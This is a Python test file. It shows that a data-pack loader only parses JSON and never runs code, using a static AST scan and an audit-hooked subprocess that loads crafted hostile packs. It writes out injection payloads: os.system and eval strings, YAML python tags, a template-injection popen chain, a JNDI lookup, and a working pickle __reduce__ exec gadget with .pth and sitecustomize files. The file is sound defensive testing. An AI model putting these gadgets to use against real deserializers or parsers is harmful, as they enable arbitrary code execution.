"""No code from data: a pack's bytes reach only json.loads, and no pack runs anything.

Two proofs.  A static one: the modules that read and build data call no
evaluator, deserializer or importer.  A dynamic one: a fresh interpreter loads
packs made to look like code (Python expressions, dotted import paths, pickle and
marshal bytes, YAML tags, ``__class__`` and ``__reduce__`` keys, ``__init__.py``,
``evil.py``, ``x.pth`` and ``sitecustomize.py`` beside the JSON, on ``sys.path``)
under an audit hook, after runtone's own modules are imported and warmed up, and
no audited import, exec, compile, process, unpickling or write happens.
"""

from __future__ import annotations

import ast
import copy
import json
import marshal
import pickle
import subprocess
import sys
from pathlib import Path

import pytest

from _support import read_raw

SRC = Path(__file__).resolve().parent.parent / "src" / "runtone"
#: The modules that read, check, build and export data.
LOADING = ("_loader.py", "_packs.py", "_export.py", "_dataset.py", "_records.py", "errors.py")

#: Names that evaluate, deserialize or import: none may appear in the loading modules.
_FORBIDDEN_CALLS = frozenset(
    {"eval", "exec", "compile", "__import__", "import_module", "literal_eval", "load_module"}
)
_FORBIDDEN_OS = ("os.system", "os.popen", "os.exec", "os.spawn", "os.posix_spawn", "os.fork")
_FORBIDDEN_MODULES = frozenset(
    {
        "pickle",
        "cPickle",
        "marshal",
        "shelve",
        "yaml",
        "runpy",
        "code",
        "codeop",
        "subprocess",
        "ctypes",
        "importlib.util",
        "importlib.machinery",
        "importlib.import_module",
    }
)


def _called_names(tree: ast.AST) -> set[str]:
    names: set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            func = node.func
            if isinstance(func, ast.Name):
                names.add(func.id)
            elif isinstance(func, ast.Attribute):
                target = func.value
                names.add(f"{target.id if isinstance(target, ast.Name) else '?'}.{func.attr}")
    return names


def _imported(tree: ast.AST) -> set[str]:
    names: set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            names.update(alias.name for alias in node.names)
        elif isinstance(node, ast.ImportFrom) and node.module is not None and not node.level:
            names.add(node.module)
            names.update(f"{node.module}.{alias.name}" for alias in node.names)
    return names


@pytest.mark.parametrize("module", LOADING)
def test_the_loading_modules_never_evaluate_deserialize_or_import(module: str) -> None:
    tree = ast.parse((SRC / module).read_text("utf-8"))
    called = _called_names(tree)
    bare = {name.removeprefix("builtins.") for name in called}
    assert not bare & _FORBIDDEN_CALLS, bare & _FORBIDDEN_CALLS
    assert not {n for n in called if n.rsplit(".", 1)[-1] in {"__import__", "import_module"}}
    assert not {n for n in called if n.split(".")[0] in {"pickle", "marshal", "shutil"}}
    assert not {n for n in called if n.startswith(_FORBIDDEN_OS)}
    assert not _imported(tree) & _FORBIDDEN_MODULES, _imported(tree) & _FORBIDDEN_MODULES
    for node in ast.walk(tree):  # no name of an evaluator reached indirectly either
        assert not (isinstance(node, ast.Name) and node.id in {"eval", "exec", "__import__"})
        assert not (isinstance(node, ast.Constant) and node.value in {"eval", "exec"})


def test_json_loads_is_the_only_parser() -> None:
    calls = {
        module: _called_names(ast.parse((SRC / module).read_text("utf-8"))) for module in LOADING
    }
    parsers = {
        (module, name)
        for module, names in calls.items()
        for name in names
        if name.rsplit(".", 1)[-1] in {"loads", "load", "JSONDecoder", "raw_decode", "scanstring"}
    }
    # The loader parses the data's files; the export parses only the JSON text that
    # json.dumps made of a dataset it exported before (its kept export), never a file.
    assert parsers == {("_loader.py", "json.loads"), ("_export.py", "json.loads")}
    export = (SRC / "_export.py").read_text("utf-8")
    assert export.count("json.loads(") == 1
    assert "json.loads(kept[2])" in export


# --- the dynamic proof ----------------------------------------------------------------

#: Audit events that mean code was imported, compiled, run, unpickled, or a process started.
_WATCHED = (
    "import",
    "exec",
    "compile",
    "os.system",
    "os.exec",
    "os.posix_spawn",
    "os.spawn",
    "os.fork",
    "subprocess.Popen",
    "pickle.find_class",
    "marshal.loads",
    "marshal.load",
    "ctypes.dlopen",
    "ctypes.dlsym",
    "socket.connect",
    "os.remove",
    "os.rename",
    "os.mkdir",
)

_SCRIPT = r"""
import json, sys

plan = json.loads(sys.argv[1])
sys.path[:0] = plan["on_path"]  # so that an import of the pack's modules would find them

import runtone
from runtone import DataError, _dataset, _export, _loader, _packs, _records, _vocab, errors

# Warm up: every loading path once (directory, single file, error), so that what runtone
# imports lazily is imported before the hook goes in.
for pack in plan["warm"]:
    for packaged in (True, False):
        try:
            runtone.export(runtone.load(packs=[pack], packaged=packaged))
        except DataError as exc:
            str(exc)
runtone.export(runtone.load())

WATCHED = frozenset(plan["watched"])
seen = []


def hook(event, args):
    if event in WATCHED or (
        event == "open" and isinstance(args[1], str) and any(c in args[1] for c in "wax+")
    ):
        seen.append([event, repr(args)[:200]])


sys.addaudithook(hook)
outcomes = {}
for pack in plan["packs"]:
    for packaged in (True, False):
        key = f"{pack} packaged={packaged}"
        try:
            dataset = runtone.load(packs=[pack], packaged=packaged)
            runtone.export(dataset)
            outcomes[key] = ["loaded", [e.name for e in dataset.exercises if "evil" in e.id]]
        except DataError as exc:
            outcomes[key] = ["DataError", str(exc)[:300]]
        except BaseException as exc:
            outcomes[key] = ["other", repr(exc)]
evil = runtone.load(packs=[plan["packs"][0]]).exercise("evil-calf-raise")
texts = [evil.name, evil.purpose, *evil.steps, *evil.cautions, *evil.aliases]
during = list(seen)
import colorsys  # the control: a real import after the packs is seen by the hook
print(json.dumps({"events": during, "control": seen[len(during):], "outcomes": outcomes,
                  "texts": texts}))
"""

#: Text that looks like code in one language or another; as data it is only text.
_CODE_LIKE = [
    "__import__('os').system('touch {marker}')",
    "eval(compile('open(r\"{marker}\", \"w\")', 'x', 'exec'))",
    "exec(\"import os; os.system('touch {marker}')\")",
    "!!python/object/apply:os.system ['touch {marker}']",
    "!!python/name:os.system",
    "{{{{ config.__class__.__init__.__globals__['os'].popen('id') }}}}",
    "${{jndi:ldap://example.invalid/a}}",
    "runtone._evil:main",
    "os.system",
    # A pickle's opcodes, their newlines as spaces: text holds no control character.
    "cos system (S'touch {marker}' tR.",
    "import evil",
]
#: Python that leaves a mark if anything ever runs it.
_RUN_ME = "open(r'{marker}', 'w').write(__name__)\n"


def _exercise(ident: str) -> dict[str, object]:
    record = copy.deepcopy(next(e for e in read_raw()["exercises"] if e["id"] == "calf-raise"))
    record.update({"id": ident, "name": ident.replace("-", " ").title(), "aliases": []})
    return record


class _Evil:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (exec, (_RUN_ME.format(marker=self.marker),))


def _packs(root: Path, marker: Path) -> tuple[list[str], list[str], list[str]]:
    """Write the packs; return them, the packs to warm up with, and what goes on sys.path."""
    code = [text.format(marker=marker) for text in _CODE_LIKE]
    run_me = _RUN_ME.format(marker=marker)
    packs: list[Path] = []

    def pack(name: str, files: dict[str, bytes | str]) -> Path:
        directory = root / name
        directory.mkdir()
        for file, content in files.items():
            data = content.encode("utf-8") if isinstance(content, str) else content
            (directory / file).write_bytes(data)
        packs.append(directory)
        return directory

    evil = _exercise("evil-calf-raise")
    evil.update(
        name=code[0], purpose=code[1], steps=code[2:], cautions=[code[-1]], aliases=["__class__"]
    )
    modules: dict[str, bytes | str] = {
        "__init__.py": run_me,
        "evil.py": run_me,
        "sitecustomize.py": run_me,
        "usercustomize.py": run_me,
        "conftest.py": run_me,
        "__main__.py": run_me,
        "x.pth": f"import os; {run_me}",
        "data.yaml": f"--- !!python/object/apply:os.system ['touch {marker}']\n",
        "evil.pyc": marshal.dumps(compile(run_me, "evil.py", "exec")),
    }
    # 1. Valid records whose text looks like code, beside modules and a manifest that do too.
    code_pack = pack(
        "evilpack",
        {
            "exercises.json": json.dumps([evil]),
            "pack.json": json.dumps({"name": code[0]}),
            **modules,
        },
    )
    # 2. Keys that some deserializers act on.
    keyed = _exercise("keyed-calf-raise")
    keyed.update({"__class__": "os.system", "__reduce__": ["os.system", ["id"]], "py/object": 1})
    pack("keys", {"exercises.json": json.dumps([keyed]), "__init__.py": run_me})
    keyed_target = _exercise("keyed-target-raise")
    keyed_target["targets"] = [{"muscle": "calves", "role": "primary", "$type": "System.IO"}]
    pack("nested-keys", {"exercises.json": json.dumps([keyed_target])})
    # 3. Serialized objects and code in the place of JSON.
    pickled = pickle.dumps(_Evil(marker), protocol=0)
    pack("pickle0", {"exercises.json": pickled})
    pack("pickle5", {"muscles.json": pickle.dumps(_Evil(marker), protocol=5)})
    pack("marshal", {"muscles.json": modules["evil.pyc"]})
    pack("yaml", {"muscles.json": modules["data.yaml"]})
    pack("python", {"muscles.json": run_me})
    pack("python-manifest", {"exercises.json": "[]", "pack.json": run_me})
    # 4. A single-file pack whose keys and overrides look like code, and files passed as packs.
    single = root / "evil-export.json"
    single.write_text(
        json.dumps({"exercises": [], "overrides": {"exercises": [code[7]]}, "__class__": code[0]}),
        "utf-8",
    )
    singles = [single]
    singles.extend(code_pack / name for name in ("evil.py", "x.pth", "__init__.py", "evil.pyc"))
    singles.append(code_pack / "data.yaml")
    pickle_file = root / "evil.pickle"
    pickle_file.write_bytes(pickled)
    singles.append(pickle_file)
    # Warm-up packs: valid, and broken, in both forms.
    warm = root / "warm"
    warm.mkdir()
    (warm / "exercises.json").write_text(json.dumps([_exercise("warm-calf-raise")]), "utf-8")
    warm_file = root / "warm.json"
    warm_file.write_text(json.dumps({"exercises": [_exercise("warm-file-raise")]}), "utf-8")
    broken = root / "broken"
    broken.mkdir()
    (broken / "exercises.json").write_text('[{"id": "x"}', "utf-8")
    on_path = [str(root), str(code_pack)]
    return [str(p) for p in [*packs, *singles]], [str(warm), str(warm_file), str(broken)], on_path


def test_no_pack_makes_runtone_import_or_run_anything(tmp_path: Path) -> None:
    marker = tmp_path / "MARKER"
    (tmp_path / "packs").mkdir()
    packs, warm, on_path = _packs(tmp_path / "packs", marker)
    plan = {"packs": packs, "warm": warm, "on_path": on_path, "watched": _WATCHED}
    out = subprocess.run(
        [sys.executable, "-c", _SCRIPT, json.dumps(plan)],
        capture_output=True,
        text=True,
        check=True,
        timeout=120,
        cwd=tmp_path,
    )
    report = json.loads(out.stdout)
    assert report["events"] == []
    assert "import" in {event for event, _ in report["control"]}  # the hook was listening
    assert not marker.exists()
    outcomes: dict[str, list[object]] = report["outcomes"]
    assert len(outcomes) == 2 * len(packs)
    assert [key for key, (kind, _) in outcomes.items() if kind == "other"] == []
    loaded = sorted(key for key, (kind, _) in outcomes.items() if kind == "loaded")
    assert loaded == [f"{packs[0]} packaged=True"]  # over no data its references dangle
    code = [text.format(marker=marker) for text in _CODE_LIKE]
    assert report["texts"] == [code[0], code[1], *code[2:], code[-1], "__class__"]
